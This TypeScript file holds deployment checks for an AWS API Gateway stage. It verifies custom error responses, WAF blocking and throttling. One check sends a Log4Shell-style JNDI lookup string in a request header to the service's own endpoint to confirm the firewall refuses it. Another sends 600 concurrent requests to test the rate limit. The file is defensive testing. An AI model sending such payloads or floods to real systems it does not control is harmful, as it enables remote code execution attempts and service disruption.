/** Checks the answers of API Gateway itself and of the firewall, without doing harm. */
import { GetExportCommand, GetGatewayResponsesCommand } from '@aws-sdk/client-api-gateway';
import * as z from 'zod';
import { gatewayAnswers, refusalBody } from '../../../lib/api/gatewayAnswers.ts';
import { type Check, expectNone, expectThat, Skipped } from '../../check.ts';
import { resourceOf } from '../acts.ts';
import type { Answer } from '../api.ts';
import type { After } from '../context.ts';
import { isRefusal, shown } from './answerChecks.ts';

/** The API's stage, which answers from a copy of the API's definition. */
const stageName = 'api';

const responses = z.record(
  z.string(),
  z.object({
    statusCode: z.union([z.string(), z.number()]).optional(),
    responseTemplates: z.record(z.string(), z.string()).default({}),
  }),
);
type Responses = z.output<typeof responses>;

const exported = z.object({ 'x-amazon-apigateway-gateway-responses': responses.optional() });

export function wrongAnswers(found: Responses): readonly string[] {
  return gatewayAnswers.flatMap((answer) => {
    const { responseType } = answer.type;
    const there = found[responseType];
    if (there === undefined) return [`${responseType} is AWS’s own`];
    const { statusCode, responseTemplates } = there;
    const text = responseTemplates['application/json'];
    const hasStatus = answer.status === undefined || String(statusCode) === answer.status.toString();
    return hasStatus && text === refusalBody(answer)
      ? []
      : [`${responseType} is ${String(statusCode)} ${String(text)}`];
  });
}

/** Reads the stage's gateway responses, or the API's if the export omits them. */
async function readAnswers({ clients: { apiGateway }, resources }: After): Promise<Responses> {
  const apis = resources.filter(({ type }) => type === 'AWS::ApiGateway::RestApi');
  const restApiId = resourceOf({ resources: apis }, /^Api[0-9A-F]{8}$/, 'API');
  const { body } = await apiGateway.send(
    new GetExportCommand({
      restApiId,
      stageName,
      exportType: 'oas30',
      parameters: { extensions: 'apigateway' },
      accepts: 'application/json',
    }),
  );
  const definition: unknown = JSON.parse(Buffer.from(body ?? []).toString() || '{}');
  const inStage = exported.parse(definition)['x-amazon-apigateway-gateway-responses'];
  if (inStage !== undefined) return inStage;
  const { items = [] } = await apiGateway.send(new GetGatewayResponsesCommand({ restApiId, limit: 500 }));
  return Object.fromEntries(
    items
      .filter(({ defaultResponse }) => defaultResponse !== true)
      .map(({ responseType = '', statusCode, responseTemplates = {} }) => [
        responseType,
        { statusCode, responseTemplates },
      ]),
  );
}

/** AWS WAF's "Baseline rule groups" block this header as Log4JRCE_HEADER (AWS WAF Developer Guide). */
const attack = { 'x-verify': '${jndi:ldap://example.com/}' };

/** Six times the requests that the management API accepts within a second. */
const flood = 600;

/** Judges the answers to more requests than an API accepts at once. @returns how many were refused */
export function judgeFlood(answers: readonly Answer[]): number {
  const refused = answers.filter(({ status }) => status === 429);
  expectThat(refused.length > 0, `${answers.length} requests were sent at once, and all were accepted.`);
  const wrong = refused.find((answer) => !isRefusal(answer) || answer.headers.get('retry-after') !== '1');
  expectThat(
    wrong === undefined,
    `One request too many was answered ${wrong === undefined ? '' : shown(wrong)}, with Retry-After: ${String(wrong?.headers.get('retry-after'))}.`,
  );
  return refused.length;
}

export const gatewayChecks: readonly Check<After>[] = [
  {
    name: 'gateway-answers',
    shows: 'the gateway has the answers of this release for what it refuses itself: 429, 502, 504 and others',
    remedy:
      'svc-queue drift shows a changed API; svc-queue deploy -- --revert-drift repairs it. A changed API needs a new deployment of its stage.',
    run: async (after) => {
      expectNone(
        wrongAnswers(await readAnswers(after)),
        (list) => `The gateway would not answer as it has to: ${list}.`,
      );
      return `the gateway has its ${gatewayAnswers.length} own answers, those of 429, 502 and 504 among them`;
    },
  },
  {
    name: 'firewall',
    shows: 'the firewall refuses a known attack, with an error as JSON',
    remedy: 'Look at the web ACL and its association with the stage of the API: svc-queue drift.',
    notOnEmulator: 'the emulator has no firewall before its APIs',
    run: async ({ settings, api }) => {
      if (!settings.firewall) throw new Skipped('the setting firewall is off');
      const answer = await api.send('GET', '/v2/health', { headers: attack });
      expectThat(
        answer.status === 403 && isRefusal(answer) && answer.text.includes('request_blocked'),
        `A known attack in a header was answered ${shown(answer)}.`,
      );
      return 'a known attack in a header was refused with 403 and a code';
    },
  },
];

/** Runs alone, because operators share the management API's limit. */
export const throttledCheck: Check<After> = {
  name: 'throttled',
  shows: 'more requests at once than the management API takes are refused with 429 and Retry-After',
  remedy:
    'Look at the throttle of the stage of the management API, and at its gateway response THROTTLED: svc-queue drift.',
  isSlow: true,
  notOnEmulator: 'the emulator throttles no APIs',
  run: async ({ management }) => {
    if (management === undefined) throw new Skipped('the management API is in the first region');
    const answers = await Promise.all(
      Array.from({ length: flood }, () => management.client.send('GET', '/v2/svc/users/verify-none')),
    );
    return `${judgeFlood(answers)} of ${flood} requests at once were refused with 429, a code and Retry-After`;
  },
};
